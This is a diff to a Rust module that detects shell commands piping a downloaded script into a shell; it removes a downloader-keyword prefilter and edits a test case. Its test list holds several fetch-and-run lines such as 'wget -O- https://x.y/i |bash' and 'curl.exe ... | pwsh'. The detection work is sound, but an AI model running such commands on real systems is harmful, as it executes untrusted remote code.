@@ -1,9 +1,5 @@
 //! Recognizes shell commands that run a downloaded script: `curl … | sh`, `bash <(curl …)`.
 
-use std::sync::LazyLock;
-
-use aho_corasick::AhoCorasick;
-
 use crate::capabilities::hosts::is_reserved;
 
 /// Maximum number of bytes that are read as the name of a command. Without it, a megabyte without
@@ -26,21 +22,6 @@ const FETCHERS: [&str; 8] = [
     "file_get_contents(",
 ];
 
-static DOWNLOADERS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
-    let words = ["curl", "wget", "iwr", "irm", "invoke-", "downloadstring"];
-    let mut builder = AhoCorasick::builder();
-    builder
-        .ascii_case_insensitive(true)
-        .build(words.iter().chain(&FETCHERS))
-        .ok()
-});
-
-/// Whether a text has a downloader. Most pages have none, and this search is faster than reading each
-/// command.
-pub(crate) fn names_downloader(text: &str) -> bool {
-    DOWNLOADERS.iter().any(|search| search.is_match(text))
-}
-
 /// Whether RFC 2606 reserves all hosts of a command, as in `curl https://example.org/i | sh`. No one can register
 /// them.
 pub(crate) fn has_only_reserved_hosts(command: &str) -> bool {
@@ -58,7 +39,7 @@ pub(crate) fn has_only_reserved_hosts(command: &str) -> bool {
 }
 
 /// Whether a text has a pipe, a bracket, or a backtick, as each of these commands has.
-pub(crate) fn may_run_download(text: &str) -> bool {
+fn may_run_download(text: &str) -> bool {
     memchr::memchr3(b'|', b'(', b'`', text.as_bytes()).is_some()
 }
 
@@ -267,7 +248,7 @@ mod tests {
             "wget -O- https://x.y/i |bash",
             "/usr/bin/curl https://x.y/i | sh",
             "'curl' https://x.y/i | \"sh\"",
-            "cUrL https://x.y/i | sh",
+            "CURL https://x.y/i | sh",
             "curl.exe https://x.y/i.ps1 | pwsh",
             "env curl https://x.y/i | env sh",
             "busybox wget -O- https://x.y/i | busybox sh",
